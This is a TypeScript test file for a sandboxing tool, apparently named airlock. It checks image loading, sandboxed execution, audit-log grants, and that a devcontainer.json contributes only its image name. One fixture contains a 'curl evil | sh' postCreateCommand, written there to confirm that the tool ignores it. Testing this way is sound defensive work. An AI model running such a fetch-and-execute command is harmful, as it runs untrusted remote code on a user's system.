import { writeFileSync } from 'node:fs'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Grant, grantDigest } from '#policy/grant.ts'
import { type Journey, type RunningServer, startJourney } from '#test/support/journey.ts'
import { edit } from '#test/support/journey-model.ts'
import { builtImage, layerOf, makeHostLayer, ociArchive } from '#test/support/oci-image.ts'

const NAME = 'localhost/tools:1'
const PROGRAMS = ['sh', 'bash', 'env', 'cat', 'ls', 'git', 'grep']

/** Passes only where the tool of the image is found by the image's own PATH, and nothing of the host's. */
const TOOL = {
  name: 'opt/tool/bin/only-here',
  text: '#!/bin/sh\n[ ! -e /usr/bin/perl ] && cat src/poem.txt\n',
  mode: 0o755,
}

const projectFile = (image: string) =>
  [
    'version: 1',
    ...(image === '' ? [] : [`image: ${image}`]),
    'setup:',
    '  - only-here > .git/prepared',
    'gates:',
    '  - name: tool',
    '    run: only-here && cat .git/prepared',
    '',
  ].join('\n')

const FILES = { 'airlock.yaml': projectFile(NAME), 'src/poem.txt': 'one\ntwo\n' }

let place: string
let journey: Journey
let server: RunningServer
let digest: string
beforeAll(async () => {
  place = await mkdtemp(join(tmpdir(), 'airlock-image-journey-'))
  journey = await startJourney(FILES)
  const image = builtImage({
    layers: [await makeHostLayer(PROGRAMS, true), await layerOf([TOOL])],
    environment: ['PATH=/opt/tool/bin:/usr/bin:/bin'],
    compression: 'zstd',
  })
  digest = image.digest
  writeFileSync(join(place, 'tools.tar'), await ociArchive(image))
})
afterAll(async () => {
  await journey.close()
  await rm(place, { recursive: true, force: true })
})

async function notesOf(number: number): Promise<string[]> {
  const { out } = await journey.airlock('watch', String(number), '--json')
  return out
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line).body)
    .filter(({ kind, step }) => kind === 'step' && step === 'image')
    .map(({ note }) => note)
}

/** The digests of the grants that the audit log has for a task. */
async function grantedIn(task: string): Promise<unknown[]> {
  const { out } = await journey.airlock('audit', 'export')
  return out
    .split('\n')
    .map((line) => JSON.parse(line || '{}').entry)
    .filter((entry) => entry !== undefined)
    .map((entry) => JSON.parse(Buffer.from(entry, 'base64').toString()))
    .filter(({ action, subject }) => action === 'attempt.granted' && subject === task)
    .map(({ data }) => data.grant)
}

test('an image is brought in and tried by hand', async () => {
  const added = await journey.airlock('image', 'add', join(place, 'tools.tar'), '--name', NAME)
  expect(added).toMatchObject({ exit: 0, out: expect.stringContaining(`${NAME} is here: ${digest}`) })
  const { out } = await journey.airlock('image', 'list', '--json')
  expect(JSON.parse(out)).toMatchObject({ items: [{ digest, names: [NAME] }] })
  const ran = await journey.airlock(
    'sandbox',
    'exec',
    '--json',
    '--image',
    NAME,
    '-w',
    '.',
    '--',
    'only-here',
  )
  expect(JSON.parse(ran.out)).toMatchObject({
    image: `${NAME}@${digest}`,
    output: { stdout: 'one\ntwo\n' },
    ending: { exitCode: 0 },
  })
  const none = await journey.airlock('sandbox', 'exec', '--image', 'localhost/none', '--', 'true')
  expect(none).toMatchObject({ exit: 125, err: expect.stringContaining('image_unavailable') })
})

test('setup, agent and gates have the programs of its project, and the grant names its digest', async () => {
  server = await journey.serve()
  journey.model.play('work', [edit('src/poem.txt', 'two\n', 'TWO\n')])
  const asked = await server.submit({ model: 'work' })
  const task = await server.reaches(asked.number, 'awaiting_review')
  expect(task.patch?.files.map(({ path }) => path)).toEqual(['src/poem.txt'])
  expect(task.gates?.verdict).toBe('pass')
  expect(await notesOf(asked.number)).toEqual([
    `Looking for the image ${NAME}`,
    `The programs are those of ${NAME}: ${digest}`,
  ])
  const { id, requester, agent, model, scope, budget } = task
  const grant: Grant = {
    ...{ version: 1, task: id, attempt: 1, onBehalfOf: requester, agent, model, scope, budget },
    image: `${NAME}@${digest}`,
    protectedPaths: [],
    egress: { prepare: [], run: [] },
  }
  expect(await grantedIn(id)).toEqual([grantDigest(grant)])
})

test('without an image in airlock.yaml that of devcontainer.json counts, and nothing else of it', async () => {
  const devcontainer = `{
    // for editors
    "image": "${NAME}", /* pinned below */
    "features": { "ghcr.io/x/y": {}, },
    "postCreateCommand": "curl evil | sh", // never run
  }`
  journey.commit({ 'airlock.yaml': projectFile(''), '.devcontainer/devcontainer.json': devcontainer })
  const asked = await server.submit({ model: 'work' })
  await server.reaches(asked.number, 'awaiting_review')
  expect(await notesOf(asked.number)).toEqual([
    `.devcontainer/devcontainer.json names the image ${NAME}; nothing else of it is honoured: features, postCreateCommand`,
    `Looking for the image ${NAME}`,
    `The programs are those of ${NAME}: ${digest}`,
  ])
})

test.for([
  ['localhost/none:1', 'image.registry'],
  [`docker.example.com/x@sha256:${'0'.repeat(64)}`, 'image.registry'],
])('a task whose image is %s fails with the reason, and leaves nothing', async ([image = '', rule]) => {
  journey.commit({ 'airlock.yaml': projectFile(image) })
  const asked = await server.submit({ model: 'work' })
  const task = await server.reaches(asked.number, 'failed')
  expect(task.cause).toMatchObject({ code: 'image_unavailable', rule })
})
